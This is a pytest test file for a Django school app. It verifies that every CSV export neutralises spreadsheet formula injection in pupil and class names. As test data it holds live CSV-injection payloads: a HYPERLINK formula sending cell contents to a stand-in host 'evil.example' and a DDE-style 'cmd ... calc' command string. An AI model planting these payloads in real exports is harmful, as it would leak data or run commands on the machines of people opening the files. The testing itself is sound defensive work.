"""Every CSV of the app is written by lessons.csv_writer, which never lets a cell be a formula.

Issue 32 §8: the class's spreadsheet CSV and the attempts export wrote a pupil named
`=HYPERLINK(…)` as a formula; only the per-pupil CSV guarded its cells. Here every URL of the
app (the authorisation matrix's rows: a new URL without a row fails there) is fetched by the
class's teacher and by a pupil, in each flavour, with hostile names in the class; every CSV
that comes back is read cell by cell. A module that writes CSV without the writer fails the
source check below.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from lessons.csv_writer import FORMULA_STARTS, csv_text, defused
from lessons.models import Classroom, Student
from lessons.printing import printing
from lessons.printing.printing import PrintPool
from tests.conftest import ClassWorld
from tests.e2e.security.access_matrix import Outcome, Route, signed_in_client
from tests.e2e.security.test_access_matrix import ALL_ROUTES
from tests.lessons.reporting.test_exports import _play_a_class
from tests.support.factories import make_students
from tests.support.responses import body_of

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Voir le bulletin")'
# One hostile name per start a spreadsheet runs (the class's name is one too).
NAMES: dict[str, Any] = {
    "student": HYPERLINK,
    "other": "@SUM(1+1)*cmd|' /C calc'!A0",
    "extra": ["+33 6 12 34 56 78", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1"],
}
CLASS_NAME = "-1+CM2"
# Each URL fetched as it is and with the queries that pick another file.
QUERIES = ["", "for=spreadsheet", "format=csv"]
# The CSV exports there are today: the test fails if one stops being found (a renamed URL).
KNOWN_EXPORTS = {
    ("GET export_attempts", ""),
    ("GET export_attempts", "for=spreadsheet"),
    ("GET export_students", ""),
    ("GET export_students", "for=spreadsheet"),
    ("GET student_export csv", ""),
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_a_formula_comes_out_as_text(start: str) -> None:
    assert defused(f"{start}1+1") == f"'{start}1+1"
    assert defused(f"{start}HYPERLINK()") == f"'{start}HYPERLINK()"
    # A sign further on is left as it is.
    assert defused(f"Zoé{start}1") == f"Zoé{start}1"


@pytest.mark.parametrize("number", ["-1", "-12", "-0.5", "-0,25", "0", "3/4", "0,25", "12"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    # Kept as the teacher's spreadsheet reads it: a number, not text with a quote.
    assert defused(number) == number


@pytest.mark.parametrize("text", ["-1+2", "-2/3", "-1e5", "+1", "-", "--1", "-1.", "-,5"])
def test_a_sign_followed_by_more_than_a_number_is_text(text: str) -> None:
    assert defused(text) == f"'{text}"


def test_the_writer_defuses_every_cell_and_writes_other_values_as_text() -> None:
    rows = [["=1", -1, None, 2.5, "a;b"], ["@x", "-0,5", True, "", "\t"]]
    text = csv_text(rows, delimiter=";")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["'=1", "-1", "", "2.5", "a;b"],
        ["'@x", "-0,5", "True", "", "'\t"],
    ]


def _hostile_class(world: ClassWorld) -> list[str]:
    """Play the class and give it and its pupils names a spreadsheet would run; return them."""
    _play_a_class(world)
    Classroom.objects.filter(pk=world.classroom.pk).update(name=CLASS_NAME)
    Student.objects.filter(pk=world.student.student.pk).update(display_name=NAMES["student"])
    Student.objects.filter(pk=world.other_student.student.pk).update(display_name=NAMES["other"])
    extra = make_students(classroom=world.classroom, names=[f"x{i}" for i in range(5)])
    for login, name in zip(extra, NAMES["extra"], strict=True):
        Student.objects.filter(pk=login.student.pk).update(display_name=name)
    return [CLASS_NAME, NAMES["student"], NAMES["other"], *NAMES["extra"]]


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return body_of(response)
    return bytes(response.content)


def _csv_rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _fetch(url: str, data: dict[str, Any], actor: str, a: ClassWorld, b: ClassWorld) -> Any:
    client: Client = signed_in_client(actor, a, b)
    return client.get(url, data or None)


def _is_formula(cell: str) -> bool:
    return defused(cell) != cell


def _csv_files(
    route: Route, actors: list[str], a: ClassWorld, b: ClassWorld
) -> dict[tuple[str, str], str]:
    """Fetch the route in every flavour; check every CSV it answers; return them by query."""
    found: dict[tuple[str, str], str] = {}
    url, data = reverse(route.name, kwargs=route.kwargs(a, b)), route.data(a, b)
    for actor in actors:
        for query in QUERIES:
            response = _fetch(f"{url}?{query}" if query else url, data, actor, a, b)
            if not response.get("Content-Type", "").startswith("text/csv"):
                continue
            rows = _csv_rows(_body(response))
            for row in rows:
                for cell in row:
                    assert not _is_formula(cell), (route.id, query, row)
            found[(route.id, query)] = "\n".join(";".join(row) for row in rows)
    return found


@pytest.fixture
def quick_pdfs() -> Iterator[None]:
    """Print PDFs without WeasyPrint: the PDF routes are fetched too, and are no CSV."""
    previous = printing.use_pool(
        PrintPool(1, lambda html: b"%PDF-fake", processes=False, merge=lambda parts: parts[0])
    )
    yield
    printing.use_pool(previous)


@pytest.mark.django_db
def test_every_csv_export_writes_no_cell_a_spreadsheet_would_run(
    class_a: ClassWorld, class_b: ClassWorld, quick_pdfs: None
) -> None:
    names = _hostile_class(class_a)
    found: dict[tuple[str, str], str] = {}
    for route in ALL_ROUTES:
        actors = [a for a in ("teacher_a", "student_a") if route.expect[a] is Outcome.OK]
        if route.method != "get" or not actors:
            continue
        # Each row in a savepoint, rolled back: some rows' arguments make objects (a session
        # opens once per class), as each row of the matrix runs in a fresh database.
        with transaction.atomic():
            found.update(_csv_files(route, actors, class_a, class_b))
            transaction.set_rollback(True)
    assert set(found) >= KNOWN_EXPORTS
    # The hostile names were there, each written as text with its quote.
    spreadsheet = found[("GET export_students", "for=spreadsheet")]
    for name in names:
        assert f"'{name}" in spreadsheet, name
    attempts = found[("GET export_attempts", "for=spreadsheet")]
    assert f"'{HYPERLINK}" in attempts and f"'{NAMES['other']}" in attempts
    assert f"'{CLASS_NAME}" in attempts
    assert f"'{HYPERLINK}" in found[("GET student_export csv", "")]


# The modules that may write CSV: the writer alone. Reading CSV (csv.reader, DictReader) is free.
WRITERS = {"lessons/csv_writer.py"}
WRITING = {"writer", "DictWriter"}


def _writes_csv(path: Path) -> bool:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        called = (
            isinstance(node, ast.Attribute)
            and node.attr in WRITING
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imported = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in WRITING for alias in node.names)
        )
        # A CSV answered anywhere else than where the writer's rows are sent is suspect too.
        answered = (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and node.value.startswith("text/csv")
            and path.relative_to(ROOT).as_posix() not in CSV_RESPONSES
        )
        if called or imported or answered:
            return True
    return False


# Where a CSV download is answered (each writes through lessons.csv_writer).
CSV_RESPONSES = {"lessons/reporting/exports.py", "lessons/school/student_views.py"}


def test_no_module_writes_csv_but_the_writer() -> None:
    sources = [
        path
        for package in ("games", "lessons", "unoclass")
        for path in (ROOT / package).rglob("*.py")
        if "migrations" not in path.parts
    ]
    writing = {path.relative_to(ROOT).as_posix() for path in sources if _writes_csv(path)}
    assert writing == WRITERS
